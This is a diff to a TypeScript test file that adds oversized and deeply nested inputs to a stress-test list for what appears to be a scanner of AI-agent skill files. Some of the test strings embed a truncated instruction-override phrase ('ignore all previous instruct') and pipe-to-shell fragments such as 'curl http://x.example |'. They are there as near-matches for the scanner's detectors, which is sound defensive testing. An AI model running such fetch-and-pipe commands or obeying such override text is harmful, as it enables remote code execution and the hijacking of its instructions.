@@ -110,6 +110,9 @@ function hostileInputs(): { name: string; files: ScanFile[] }[] {
     { name: 'million-line file', files: skillFile('a\n'.repeat(1_000_000)) },
     { name: "100,000 'a' then a near match", files: skillFile('a'.repeat(100_000) + ' ignore all previous instruct ' + 'curl http://x.example |') },
     { name: 'deeply nested markdown', files: skillFile('> '.repeat(100_000) + 'x\n' + '['.repeat(100_000) + ']'.repeat(100_000) + '\n' + '- '.repeat(100_000)) },
+    { name: '100,000 backticks', files: skillFile('`'.repeat(100_000) + '\ncurl http://x.example/a |\n') },
+    { name: 'deeply nested fences', files: skillFile(Array.from({ length: 20_000 }, (_, i) => `${' '.repeat(i % 4)}${'`'.repeat(3 + (i % 7))}${i % 2 ? 'bash' : ''}\n`).join('')) },
+    { name: '5 MB single line', files: skillFile('word '.repeat(1_000_000 - 20)) },
     { name: 'invalid UTF-8 (1 MB)', files: [{ path: 'SKILL.md', content: MANIFEST }, { path: 'data.bin', content: invalid }] },
     { name: 'archive (1 MB zip)', files: [{ path: 'SKILL.md', content: MANIFEST }, { path: 'bundle.zip', content: archive }] },
   ];
